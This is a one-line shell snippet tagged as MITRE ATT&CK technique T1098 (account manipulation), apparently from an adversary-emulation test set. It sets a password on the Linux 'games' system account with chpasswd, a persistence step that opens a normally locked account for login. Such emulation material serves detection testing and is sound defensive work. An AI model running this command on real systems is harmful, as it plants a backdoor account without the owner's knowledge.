# technique: T1098
# location: linux.account.password
# source: /etc/shadow
# name: games
echo 'games:battery staple' | chpasswd
